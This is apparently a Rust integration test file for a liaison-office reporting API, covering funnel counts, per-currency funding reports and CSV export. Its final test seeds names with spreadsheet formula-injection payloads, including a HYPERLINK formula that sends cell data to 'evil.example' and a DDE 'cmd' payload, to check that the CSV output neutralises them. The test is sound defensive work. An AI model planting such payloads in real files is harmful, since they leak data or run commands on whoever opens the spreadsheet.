//! Liaison-office reports through the API: figures computed from real activity, JSON and CSV
//! (RFC 4180, UTF-8 with a byte-order mark), and who may read them.

mod common;

use common::{Scrub, TestApp, scrub};
use serde_json::{Value, json};

async fn post(app: &TestApp, token: &str, path: &str, body: Value) -> common::Response {
    app.as_(token).post(path, &body).await
}

#[actix_web::test]
async fn the_funnel_counts_engagements_and_times_answers() {
    let app = TestApp::spawn().await;
    let nycu = app.org_id("university", "國立陽明交通大學", "TW").await;
    let other_uni = app.org_id("university", "Other", "TW").await;
    let tsmc = app.org_id("company", "TSMC", "TW").await;
    let office = app.member_token(&nycu, "staff").await;
    let staff = app.member_token(&tsmc, "staff").await;
    let prof = app.member_token(&nycu, "faculty").await;
    let owner = app.user_id(&prof).await;
    let mine = app
        .create(
            "/api/v1/faculty",
            &json!({"university_id": nycu, "name": "Chen", "owner_user_id": owner}),
        )
        .await;
    let plain = app
        .create(
            "/api/v1/faculty",
            &json!({"university_id": nycu, "name": "Lin"}),
        )
        .await;
    let elsewhere = app
        .create(
            "/api/v1/faculty",
            &json!({"university_id": other_uni, "name": "Kim"}),
        )
        .await;
    let need = |title: &'static str| {
        let (app, tsmc) = (&app, tsmc.clone());
        async move {
            app.create("/api/v1/needs", &json!({"company_id": tsmc, "title": title, "status": "open", "visibility": "public"})).await
        }
    };
    let (a, b) = (need("Lithography").await, need("Packaging").await);
    // Invited, then the professor answers: interested.
    let res = post(
        &app,
        &staff,
        "/api/v1/engagements",
        json!({"need_id": a, "faculty_id": mine, "state": "invited"}),
    )
    .await;
    res.expect(201);
    let e = res.id();
    let etag = res.header("etag").unwrap();
    app.as_(&prof)
        .if_match(etag.as_str())
        .post(
            &format!("/api/v1/engagements/{e}/transitions"),
            &json!({"to": "interested"}),
        )
        .await
        .expect(200);
    // Shortlisted only (the company's own note: not counted for the office, as
    // `GET /engagements` does not show it to them); and one at another university (not
    // counted).
    post(
        &app,
        &staff,
        "/api/v1/engagements",
        json!({"need_id": b, "faculty_id": plain, "state": "shortlisted"}),
    )
    .await
    .expect(201);
    post(
        &app,
        &staff,
        "/api/v1/engagements",
        json!({"need_id": a, "faculty_id": elsewhere, "state": "shortlisted"}),
    )
    .await
    .expect(201);

    let path = format!("/api/v1/reports/funnel?university_id={nycu}");
    let res = app.as_(&office).get(&path).await;
    res.expect(200);
    let r = res.json();
    assert_eq!(r["needs"], 1, "{r}");
    assert_eq!(r["engagements"], 1);
    assert_eq!(r["engagements_by_state"]["interested"], 1);
    assert_eq!(r["engagements_by_state"]["shortlisted"], 0);
    assert_eq!(r["engagements_by_state"]["agreed"], 0);
    assert_eq!(r["invited"], 1);
    assert_eq!(r["responded"], 1);
    let hours = r["median_hours_to_first_response"].as_f64().unwrap();
    assert!((0.0..0.1).contains(&hours), "{hours}");
    insta::assert_json_snapshot!("funnel", scrub(&r), {
        ".median_hours_to_first_response" => "[hours]",
    });

    // CSV, by parameter or by Accept header: BOM, CRLF, one row per stage.
    for res in [
        app.as_(&office).get(&format!("{path}&format=csv")).await,
        app.as_(&office).accept("text/csv").get(&path).await,
    ] {
        res.expect(200);
        assert!(res.header("content-type").unwrap().starts_with("text/csv"));
        assert!(
            res.header("content-disposition")
                .unwrap()
                .contains("funnel.csv")
        );
        let text = res.text();
        assert!(text.starts_with('\u{feff}'), "{text:?}");
        // The median is seconds of this run: checked, then left out of the snapshot.
        let median = "median_hours_to_first_response,";
        let (before, after) = text.split_once(median).expect("a median row");
        let (hours, rest) = after.split_once("\r\n").unwrap();
        assert!(
            (0.0..0.1).contains(&hours.parse::<f64>().unwrap()),
            "{hours}"
        );
        let text = format!("{before}{median}[hours]\r\n{rest}");
        insta::assert_snapshot!("funnel_csv", Scrub::default().csv(&text));
    }

    // A period that excludes everything.
    let res = app
        .as_(&office)
        .get(&format!("{path}&from=2000-01-01&to=2000-02-01"))
        .await;
    assert_eq!(res.json()["engagements"], 0);

    // Who may read it: the office and operators (who see every engagement, the shortlist
    // too); not the company, not the professor, not another university's office, not
    // anonymous callers.
    let all = app.operator().get(&path).await.json();
    assert_eq!(
        (
            all["needs"].clone(),
            all["engagements_by_state"]["shortlisted"].clone()
        ),
        (json!(2), json!(1)),
        "{all}"
    );
    app.as_(&staff).get(&path).await.expect(403);
    app.as_(&prof).get(&path).await.expect(403);
    let other_office = app.member_token(&other_uni, "admin").await;
    app.as_(&other_office).get(&path).await.expect(403);
    app.anonymous().get(&path).await.expect(401);
}

#[actix_web::test]
async fn bad_report_parameters_are_problems() {
    let app = TestApp::spawn().await;
    let nycu = app.org_id("university", "NYCU", "TW").await;
    let tsmc = app.org_id("company", "TSMC", "TW").await;
    for q in [
        "".to_owned(),
        "university_id=nope".to_owned(),
        format!("university_id={nycu}&from=2026-02-01&to=2026-01-01"),
        format!("university_id={nycu}&from=yesterday"),
        format!("university_id={nycu}&format=xlsx"),
        format!("university_id={nycu}&colour=red"),
    ] {
        // As the operator: a stranger is told to authenticate before anything else.
        let res = app
            .operator()
            .get(&format!("/api/v1/reports/funnel?{q}"))
            .await;
        res.expect(400);
        res.assert_problem();
    }
    // A company or an unknown id is not a university.
    for id in [tsmc, "0190c2a4-0000-7000-8000-000000000000".to_owned()] {
        let res = app
            .operator()
            .get(&format!("/api/v1/reports/funnel?university_id={id}"))
            .await;
        res.expect(404);
    }
}

#[actix_web::test]
async fn funding_centres_and_faculty_reports_add_up_per_currency() {
    let app = TestApp::spawn().await;
    let uni = app.org_id("university", "國立臺灣大學", "TW").await;
    let co = app.org_id("company", "MediaTek", "TW").await;
    let gov = app.org_id("government", "NSTC", "TW").await;
    let office = app.member_token(&uni, "staff").await;
    let p1 = app
        .create(
            "/api/v1/faculty",
            &json!({"university_id": uni, "name": "Chen", "local_name": "陳"}),
        )
        .await;
    let p2 = app
        .create(
            "/api/v1/faculty",
            &json!({"university_id": uni, "name": "Lin"}),
        )
        .await;
    app.as_(&office)
        .post(
            "/api/v1/centers",
            &common::sponsored_center(&uni, &co, &p1, &p2),
        )
        .await
        .created_id();
    let project = |body: Value| {
        let (app, office) = (&app, office.clone());
        async move {
            app.as_(&office)
                .post("/api/v1/funded-projects", &body)
                .await
                .created_id()
        }
    };
    let sponsored = project(json!({"title": "Edge inference", "type": "sponsored_research", "sponsor_id": co,
        "university_id": uni, "principal_investigator_id": p1, "co_investigator_ids": [p2],
        "amount_minor": 100_000_000i64, "currency": "TWD", "start_date": "2026-01-01", "end_date": "2027-12-31",
        "status": "active", "visibility": "participants"})).await;
    let gift = project(json!({"title": "AI building gift", "type": "donation", "sponsor_id": co,
        "university_id": uni, "principal_investigator_id": p1, "amount_minor": 50_000_000i64, "currency": "USD",
        "start_date": "2025-03-01", "end_date": "2025-12-31", "status": "active", "visibility": "public"})).await;
    project(json!({"title": "Supercomputer hours", "type": "government_grant", "sponsor_id": gov,
        "university_id": uni, "principal_investigator_id": p2, "amount_minor": 20_000_000i64, "currency": "TWD",
        "start_date": "2026-06-01", "end_date": "2027-06-01", "status": "proposed", "visibility": "public"})).await;
    project(json!({"title": "Modem consulting", "type": "consulting", "sponsor_id": co,
        "university_id": uni, "principal_investigator_id": p2, "amount_minor": 5_000_000i64, "currency": "KRW",
        "start_date": "2026-02-01", "end_date": "2026-08-01", "status": "negotiating", "visibility": "public"})).await;
    // The gift completes; the sponsored project receives a first payment.
    let res = app
        .as_(&office)
        .get(&format!("/api/v1/funded-projects/{gift}"))
        .await;
    let etag = res.header("etag").unwrap();
    app.as_(&office)
        .if_match(etag.as_str())
        .patch(
            &format!("/api/v1/funded-projects/{gift}"),
            &json!({"status": "completed"}),
        )
        .await
        .expect(200);
    app
        .as_(&office).post(&format!("/api/v1/funded-projects/{sponsored}/payments"), &json!({"received_date": "2026-02-15", "amount_minor": 30_000_000i64, "currency": "TWD", "status": "received"}))
        .await.created_id();

    let get = |path: String| {
        let (app, office) = (&app, office.clone());
        async move {
            let res = app.as_(&office).get(&path).await;
            res.expect(200);
            res.json()
        }
    };
    let r = get(format!("/api/v1/reports/funding?university_id={uni}")).await;
    let row = |year: i64, kind: &str, currency: &str| {
        r["rows"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["year"] == year && x["type"] == kind && x["currency"] == currency)
            .cloned()
            .unwrap_or_else(|| panic!("no {year} {kind} {currency} in {r}"))
    };
    assert_eq!(
        row(2025, "donation", "USD")["committed_minor"],
        50_000_000i64
    );
    assert_eq!(
        row(2025, "center_commitment", "TWD")["committed_minor"],
        5_000_000_000i64
    );
    let s = row(2026, "sponsored_research", "TWD");
    assert_eq!(
        (s["committed_minor"].clone(), s["received_minor"].clone()),
        (json!(100_000_000i64), json!(30_000_000i64))
    );
    assert_eq!(s["sponsor_name"], "MediaTek");
    assert_eq!(
        row(2026, "government_grant", "TWD")["pipeline_minor"],
        20_000_000i64
    );
    assert_eq!(
        row(2026, "consulting", "KRW")["pipeline_minor"],
        5_000_000i64
    );
    let totals: Vec<(String, i64, i64, i64)> = r["totals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["currency"].as_str().unwrap().to_owned(),
                t["committed_minor"].as_i64().unwrap(),
                t["pipeline_minor"].as_i64().unwrap(),
                t["received_minor"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        totals,
        vec![
            ("KRW".to_owned(), 0, 5_000_000, 0),
            ("TWD".to_owned(), 10_600_000_000, 20_000_000, 30_000_000),
            ("USD".to_owned(), 50_000_000, 0, 0),
        ]
    );
    assert!(
        r.get("converted").is_none(),
        "never summed across currencies without rates"
    );
    insta::assert_json_snapshot!("funding", scrub(&r));
    // With rates: exact conversion into the base currency's minor units.
    let r = get(format!(
        "/api/v1/reports/funding?university_id={uni}&rates=TWD:0.031,KRW:0.00073&base=USD"
    ))
    .await;
    assert_eq!(
        r["converted"],
        json!({"currency": "USD", "committed_minor": 378_600_000i64,
        "pipeline_minor": 985_000, "received_minor": 930_000})
    );
    // A currency without a rate is refused, not guessed.
    let res = app
        .as_(&office)
        .get(&format!(
            "/api/v1/reports/funding?university_id={uni}&rates=TWD:0.031&base=USD"
        ))
        .await;
    res.expect(400);
    assert_eq!(res.json()["errors"][0]["code"], "missing_rate");
    // CSV, with a total row per currency.
    let res = app
        .as_(&office)
        .get(&format!(
            "/api/v1/reports/funding?university_id={uni}&format=csv"
        ))
        .await;
    let text = res.text();
    insta::assert_snapshot!("funding_csv", Scrub::default().csv(&text));

    let c = get(format!("/api/v1/reports/centers?university_id={uni}")).await;
    let centre = &c["centers"][0];
    assert_eq!(centre["local_name"], "臺大聯發科人工智慧中心");
    assert_eq!(centre["director"]["name"], "Chen");
    assert_eq!(centre["members"][0]["name"], "Lin");
    assert_eq!(centre["partners"][0]["name"], "MediaTek");
    assert_eq!(centre["funding_totals"]["TWD"], 10_500_000_000i64);
    assert_eq!(centre["shared_resources"][0]["count"], 64);
    insta::assert_json_snapshot!("centers", scrub(&c));
    let res = app
        .as_(&office)
        .accept("text/csv")
        .get(&format!("/api/v1/reports/centers?university_id={uni}"))
        .await;
    let text = res.text();
    insta::assert_snapshot!("centers_csv", Scrub::default().csv(&text));

    let f = get(format!(
        "/api/v1/reports/faculty-funding?university_id={uni}"
    ))
    .await;
    let rows: Vec<(String, String, u64, i64, u64)> = f["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| {
            (
                x["faculty"]["name"].as_str().unwrap().to_owned(),
                x["currency"].as_str().unwrap().to_owned(),
                x["projects_led"].as_u64().unwrap(),
                x["amount_minor"].as_i64().unwrap(),
                x["projects_co_investigated"].as_u64().unwrap(),
            )
        })
        .collect();
    insta::assert_json_snapshot!("faculty_funding", scrub(&f));
    let csv = app
        .as_(&office)
        .get(&format!(
            "/api/v1/reports/faculty-funding?university_id={uni}&format=csv"
        ))
        .await;
    csv.expect(200);
    insta::assert_snapshot!("faculty_funding_csv", Scrub::default().csv(&csv.text()));
    assert_eq!(
        rows,
        vec![
            ("Chen".to_owned(), "TWD".to_owned(), 1, 100_000_000, 0),
            ("Lin".to_owned(), "TWD".to_owned(), 0, 0, 1),
            ("Chen".to_owned(), "USD".to_owned(), 1, 50_000_000, 0),
        ]
    );

    // The funnel counts the funded projects that came from needs (none here).
    let funnel = get(format!("/api/v1/reports/funnel?university_id={uni}")).await;
    assert_eq!(funnel["funded_projects_from_needs"], 0);
    // The company may not read the university's reports.
    let partner = app.member_token(&co, "admin").await;
    for path in ["funding", "centers", "faculty-funding"] {
        app.as_(&partner)
            .get(&format!("/api/v1/reports/{path}?university_id={uni}"))
            .await
            .expect(403);
    }
    for bad in [
        "rates=TWD:abc&base=USD",
        "rates=TWD:0.03",
        "base=US",
        "rates=TWD:0",
    ] {
        app.as_(&office)
            .get(&format!(
                "/api/v1/reports/funding?university_id={uni}&{bad}"
            ))
            .await
            .expect(400);
    }
}

/// The CSV form of every report that shows names neutralises a text cell a spreadsheet would
/// run as a formula (a leading `'`, quoted); the stored names and the JSON answers are
/// unchanged.
#[actix_web::test]
async fn csv_reports_never_carry_spreadsheet_formulas() {
    let app = TestApp::spawn().await;
    let uni = app.org_id("university", "NTU", "TW").await;
    let office = app.member_token(&uni, "staff").await;
    let leads = ['=', '+', '-', '@', '\t', '\r'];
    let mut names = Vec::new();
    for (i, lead) in leads.iter().enumerate() {
        // A comma and quotes too: the guard and RFC 4180 quoting work together.
        let company = format!("{lead}HYPERLINK(\"https://evil.example/?\"&A1,\"co\") {i}");
        let professor = format!("{lead}SUM(1+1) prof {i}");
        let centre = format!("{lead}cmd|' /C calc'!A0 centre {i}");
        let local = format!("{lead}陳 {i}");
        let co = app.org_id("company", &company, "TW").await;
        let prof = app
            .create(
                "/api/v1/faculty",
                &json!({"university_id": uni, "name": professor, "local_name": local}),
            )
            .await;
        let centre_id = app
            .as_(&office).post("/api/v1/centers", &json!({
                "host_university_id": uni, "name": centre, "status": "active", "visibility": "public",
                "director_id": prof, "partners": [{"company_id": co, "role": "founding_sponsor"}],
                "funding": [{"year": 2026, "sponsor_id": co, "amount_minor": 1000, "currency": "TWD"}]}))
            .await.created_id();
        app.as_(&office)
            .post(
                "/api/v1/funded-projects",
                &json!({
                "title": "Edge inference", "type": "sponsored_research", "sponsor_id": co,
                "university_id": uni, "principal_investigator_id": prof, "amount_minor": 5000,
                "currency": "TWD", "start_date": "2026-01-01", "end_date": "2027-01-01",
                "status": "active", "visibility": "public"}),
            )
            .await
            .created_id();
        if lead.is_whitespace() {
            // The API trims names, so a leading tab or CR can only come from elsewhere (an older
            // version, a database restore): written straight into the database.
            let sql = |s: &str| s.replace('\'', "''");
            for (table, column, value, row) in [
                ("organizations", "name", &company, &co),
                ("faculty_profiles", "name", &professor, &prof),
                ("faculty_profiles", "local_name", &local, &prof),
                ("centers", "name", &centre, &centre_id),
            ] {
                app.db.execute(&format!(
                    "UPDATE {table} SET {column} = '{}' WHERE id = '{row}'",
                    sql(value)
                ));
            }
        }
        names.push((company, professor, centre));
    }
    let report = |path: &str, csv: bool| {
        let (app, office) = (&app, office.clone());
        let path = format!(
            "/api/v1/reports/{path}?university_id={uni}{}",
            if csv { "&format=csv" } else { "" }
        );
        async move {
            let res = app.as_(&office).get(&path).await;
            res.expect(200);
            res
        }
    };
    let mut cells = Vec::new();
    for path in ["funding", "centers", "faculty-funding"] {
        let text = report(path, true).await.text();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            cells.extend(record.unwrap().iter().map(str::to_owned));
        }
        // Every cell as a spreadsheet reads it: none begins a formula.
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{path}: {cell:?} in {text:?}"
            );
        }
    }
    for (company, professor, centre) in &names {
        for name in [company, professor, centre] {
            let guarded = format!("'{name}");
            assert!(
                cells
                    .iter()
                    .any(|c| c == &guarded || c.contains(&format!("{guarded} ("))),
                "{guarded:?} not in {cells:?}"
            );
        }
    }
    // JSON answers carry the names exactly as stored.
    let funding = report("funding", false).await.json();
    let sponsors: Vec<&str> = funding["rows"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["sponsor_name"].as_str())
        .collect();
    let centres = report("centers", false).await.json();
    let centre_names: Vec<&str> = centres["centers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    let faculty = report("faculty-funding", false).await.json();
    let professors: Vec<&str> = faculty["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["faculty"]["name"].as_str().unwrap())
        .collect();
    for (company, professor, centre) in &names {
        assert!(sponsors.contains(&company.as_str()), "{sponsors:?}");
        assert!(professors.contains(&professor.as_str()), "{professors:?}");
        assert!(centre_names.contains(&centre.as_str()), "{centre_names:?}");
    }
}
